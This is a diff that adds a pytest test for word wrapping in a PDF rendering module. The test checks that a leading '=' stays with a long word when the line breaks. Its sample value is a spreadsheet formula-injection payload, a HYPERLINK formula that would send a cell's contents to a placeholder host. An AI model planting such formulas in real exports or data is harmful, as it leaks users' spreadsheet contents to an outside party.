@@ -926,3 +926,15 @@ def test_negative_chart_bars_run_left_of_a_zero_line_shared_with_the_positive_on
     ]
     assert down_x + down_width == pytest.approx(up_x)
     assert up_width == pytest.approx(3 * down_width)
+
+
+def test_punctuation_that_opens_a_long_word_stays_with_it_when_the_word_breaks():
+    """A formula-looking value wrapped in a narrow column does not leave its "=" alone on the
+    first line; the lines still join to the value."""
+    from app.rendering.pdf.lines import TextStyle
+
+    value = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
+    lines = TextStyle(bold=False, size=8, leading=10).lay_out(value, 50.0, Counter())
+    texts = ["".join(piece.text for piece in line.pieces) for line in lines]
+    assert "".join(texts) == value
+    assert texts[0].startswith("=H")
